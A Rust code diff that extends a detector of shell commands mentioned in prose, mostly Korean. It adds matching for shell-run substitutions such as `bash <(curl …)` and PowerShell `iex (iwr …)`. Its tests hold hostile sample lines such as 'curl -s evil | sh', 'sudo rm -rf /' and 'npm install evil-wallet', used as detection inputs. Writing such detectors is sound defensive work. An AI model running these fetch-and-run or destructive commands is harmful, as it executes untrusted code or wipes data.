@@ -74,6 +74,12 @@ fn commands(text: &str, words: &[Span]) -> Vec<Said> {
         if is_part {
             continue;
         }
+        if let Some(inner) = substituted(text, word.end).filter(|_| SHELLS.contains(&name)) {
+            found.push(Said {
+                span: Span::new(word.start, inner.end),
+                key: key(name) + &key(inner.of(text)),
+            });
+        }
         let Some(argument) = argument(text, word.end) else {
             continue;
         };
@@ -88,6 +94,7 @@ fn commands(text: &str, words: &[Span]) -> Vec<Said> {
         // A word in quotes is what a sentence names (`del "Idioma"`); a path or a flag may stand in them as well.
         let spelt = argument.of(text).trim_start_matches(['"', '\'']);
         let is_option = spelt.starts_with(['-', '/', '~', '.', '$', '%', '*']) && spelt.len() > 1
+            || spelt.starts_with('+') && spelt.len() > 1
             || spelt.contains("://")
             || spelt.contains('=');
         if !is_verb && !is_option {
@@ -103,6 +110,17 @@ fn commands(text: &str, words: &[Span]) -> Vec<Said> {
         });
     }
     found
+}
+
+/// A program whose output is run: `bash <(curl …)`, `iex (iwr …)`.
+fn substituted(text: &str, at: usize) -> Option<Span> {
+    let rest = text.get(at..)?;
+    let inner = rest.trim_start_matches([' ', '<', '$']).strip_prefix('(')?;
+    let len = inner.find(|c: char| !c.is_ascii_alphanumeric())?;
+    let name = inner.get(..len)?;
+    let runs = inner.get(len..)?.starts_with(' ') && COMMANDS.binary_search(&name).is_ok();
+    let start = text.len() - inner.len();
+    runs.then(|| Span::new(start, start + len))
 }
 
 /// The ASCII run behind the blanks at `at`.
@@ -326,6 +344,11 @@ mod tests {
         assert_eq!(said("터미널에서 curl -s evil | sh"), ["curl -s", "sh"]);
         assert_eq!(said("먼저 sudo rm -rf /"), ["sudo rm -rf", "rm -rf /"]);
         assert_eq!(
+            said("bash <(curl evil) 또는 chmod +x evil"),
+            ["bash <(curl", "chmod +x"]
+        );
+        assert_eq!(said("iex (iwr evil)"), ["iex (iwr"]);
+        assert_eq!(
             said("npm install evil-wallet을"),
             ["npm install evil-wallet"]
         );
@@ -369,6 +392,7 @@ mod tests {
     fn what_people_read() {
         for text in [
             "curl 명령과 bash 셸, sudo 권한이 필요합니다.",
+            "la shell powershell (pwsh), python + html, bash (sh)",
             "die Rechte von sudo und die Shell bash",
             "이 사이트 일부, 일이 있는 사람, 오이와 구이",
             "one or two, zero trust, nine to five",
